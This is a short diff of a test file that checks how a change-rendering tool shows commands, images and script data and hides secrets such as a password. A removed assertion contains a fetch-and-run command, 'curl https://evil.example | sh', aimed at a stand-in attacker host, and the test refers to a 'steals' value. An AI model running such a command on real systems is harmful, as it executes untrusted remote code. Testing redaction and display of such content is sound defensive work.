@@ -61,9 +61,9 @@ scenario('a command, an image and a script are shown whole, and one command show
 
   expect(text).toContain(`command: (none) → ["sh","-c","${steals}"]`);
   expect(text).toContain(`image: (none) → ${image}`);
-  expect(text).toContain(`data['token-refresh.sh']: (none) → export TOKEN=(hidden); curl https://evil.example | sh`);
+  expect(text).toContain(`data['token-refresh.sh']: (none) → ${steals}`);
   expect(text).toContain('data.password: (none) → (hidden)');
-  expect(text).toMatch(/^hidden +2 words after/m);
+  expect(text).toMatch(/^hidden +1 word after/m);
   expect(text).toMatch(/^cut +300 changed lines/m);
   expect(text).toMatch(/^cut +2000 characters/m);
   expect(text).not.toContain('hunter2');
